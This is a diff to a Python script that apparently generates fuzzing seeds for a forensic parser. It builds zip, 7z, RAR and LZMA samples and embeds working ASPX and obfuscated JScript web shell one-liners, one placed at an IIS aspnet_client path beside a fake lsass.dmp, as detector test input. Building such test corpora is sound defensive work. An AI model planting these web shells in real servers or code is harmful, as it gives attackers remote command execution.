@@ -184,3 +184,42 @@ out("vss", "overlay_all", bytes([1, 2, 0xBC, 0, 4]) + struct.pack("<I", 0xFFFFFF
 out("vss", "forward_self", bytes([1, 2, 0xC8, 0, 8]) + struct.pack("<Q", 43 * 0x4000))
 out("vss", "catalog_block", bytes([4]) + bytes(0x80 - 24) + struct.pack("<Q", 2) * 2)
 out("vss", "list_block", bytes([6]) + bytes(0x80 - 24) + struct.pack("<QQQII", 0x4000, 0, 0x8000, 2, 1))
+
+# archives_scripts: first byte 0 zip, 1 7z, 2 RAR, 3 web script, 4 LZMA alone. Zips made here
+# (stored and deflate), the 7z files of tests/data/archives (plain, non-solid, many members,
+# copied, encrypted headers), a RAR 5 and a RAR 4 signature with one file header, the corpus's
+# web shells and benign pages, and the packed LZMA data of plain.7z.
+import io  # noqa: E402
+import zipfile  # noqa: E402
+
+for method, tag in ((zipfile.ZIP_STORED, "stored"), (zipfile.ZIP_DEFLATED, "deflate")):
+    b = io.BytesIO()
+    with zipfile.ZipFile(b, "w", method) as z:
+        z.writestr("inetpub/wwwroot/aspnet_client/x.aspx", b'<%@ Page Language="C#" %><% eval(Request["a"]); %>')
+        z.writestr("lsass.dmp", b"MDMP" + bytes(64))
+        inner = io.BytesIO()
+        with zipfile.ZipFile(inner, "w", method) as zi:
+            zi.writestr("inner.txt", b"nested")
+        z.writestr("inner.zip", inner.getvalue())
+    out("archives_scripts", "zip_" + tag, bytes([0]) + b.getvalue())
+arch = os.path.join(HERE, "..", "tests", "data", "archives")
+for name in sorted(os.listdir(arch)):
+    if name.endswith(".7z"):
+        with open(os.path.join(arch, name), "rb") as f:
+            data = f.read()
+        out("archives_scripts", "7z_" + name, bytes([1]) + data)
+        if name == "plain.7z":
+            # The packed streams start at byte 32: LZMA data, here with the usual properties
+            # (lc=3 lp=0 pb=2, 1 MiB dictionary) and 64 bytes asked for.
+            out("archives_scripts", "lzma_plain",
+                bytes([4]) + b"\x5d\x00\x00\x10\x00" + struct.pack("<H", 64) + data[32:32 + 256])
+out("archives_scripts", "rar5", bytes([2]) + b"Rar!\x1a\x07\x01\x00" + bytes([0x33, 0x92, 0xb5, 0xe5, 0x0a, 0x01, 0x05, 0x06, 0x00, 0x05, 0x01, 0x01, 0x80, 0x80, 0x00]))
+out("archives_scripts", "rar4", bytes([2]) + b"Rar!\x1a\x07\x00" + bytes([0xcf, 0x90, 0x73, 0, 0x0d, 0, 0, 0, 0, 0, 0, 0]) + bytes([0, 0, 0x74, 0, 0x80, 0x2c, 0]) + bytes(25) + b"lsass.dmp")
+corpus = os.path.join(HERE, "..", "..", "shared", "corpus")
+for d in ("webshells", "benign-aspx"):
+    p = os.path.join(corpus, d)
+    if os.path.isdir(p):
+        for name in sorted(os.listdir(p))[:40]:
+            with open(os.path.join(p, name), "rb") as f:
+                out("archives_scripts", f"script_{d}_{name}"[:120], bytes([3]) + f.read(64 << 10))
+out("archives_scripts", "script_obfuscated", bytes([3]) + b'<%@ Page Language="Jscript"%><% var k = "ev" + /*x*/ "al"; eval(Request.Item[String.fromCharCode(0x61+1)], "un" + "safe"); %>')
